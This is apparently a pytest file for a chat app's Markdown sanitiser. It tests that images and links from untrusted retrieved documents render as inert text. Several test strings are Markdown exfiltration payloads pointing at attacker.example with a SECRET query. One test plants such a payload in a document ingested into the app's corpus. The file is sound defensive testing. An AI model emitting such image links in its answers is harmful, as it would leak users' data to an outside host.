"""Untrusted text renders inert: no remote image, link or raw HTML from a document or an answer (OWASP LLM05)."""
from __future__ import annotations

import re

import pytest

from components.safe_markdown import safe_markdown, safe_stream
from tests.pages.test_chat import _ask, _assistant_text, _page  # noqa: F401 - the chat page harness

EXFILTRATE = "![status](http://attacker.example/pixel.png?q=SECRET)"
# What would make a browser fetch or follow something once rendered as Markdown. A citation marker's link to its
# card on the same page (#gw-cite-…, components.safe_markdown.link_markers) fetches nothing and is allowed.
ACTIVE = re.compile(r"(?<!\\)!\s*\[|(?<!\\)\]\s*[(\[](?!#gw-cite-[\w-]+\))")


@pytest.mark.parametrize("text", [
    EXFILTRATE,
    "![x] [ref]\n\n[ref]: http://attacker.example/?q=SECRET",
    "Read [the policy](http://attacker.example/?q=SECRET) first.",
    "! [spaced](http://attacker.example/x)",
])
def test_images_and_links_are_shown_as_text(text):
    shown = safe_markdown(text)
    assert not ACTIVE.search(shown), shown
    assert "attacker.example" in shown  # the words stay visible: nothing is hidden


def test_ordinary_markdown_and_citations_still_read_as_before():
    text = "**Fees**: an international transfer costs $3.50 [1], not ~~£5.00~~ [2]."
    assert safe_markdown(text) == "**Fees**: an international transfer costs \\$3.50 [1], not \\~\\~£5.00\\~\\~ [2]."
    assert list(safe_stream(["One ![a](http://x/y). ", "Two."])) == ["One !\\[a\\](http://x/y). ", "Two."]


def test_a_poisoned_document_cannot_make_the_chat_page_fetch_a_url(data_dir, tmp_path):
    """A document whose text carries an exfiltration image: the answer quoting it renders no image."""
    from components.chat_turn import _warm_chat
    from components.platform import get_platform

    get_platform.clear()
    _warm_chat.clear()
    docs = tmp_path / "docs"
    docs.mkdir()
    # Plain text keeps the Markdown as characters (the Markdown loader already reduces an image to its alt text).
    (docs / "status.txt").write_text(
        "Service status\n\nThe service status page shows the current incident level "
        f"{EXFILTRATE} and is updated every five minutes.\n")
    platform = get_platform()
    try:
        platform.corpus.ingest([docs], collection="demo")
        app = _page()
        _ask(app, "How often is the service status page updated?")
        shown = _assistant_text(app)
        assert "five minutes" in shown and "attacker.example" in shown  # the quote is there, as text
        assert not ACTIVE.search(shown), shown
        # Raw HTML in any of it is escaped by Streamlit: no Markdown element on the page may allow HTML.
        assert app.markdown and not any(md.proto.allow_html for md in app.markdown)
        assert not any("attacker.example" in h.proto.body and "<img" in h.proto.body for h in app.get("html"))
    finally:
        platform.close()
        get_platform.clear()
        _warm_chat.clear()
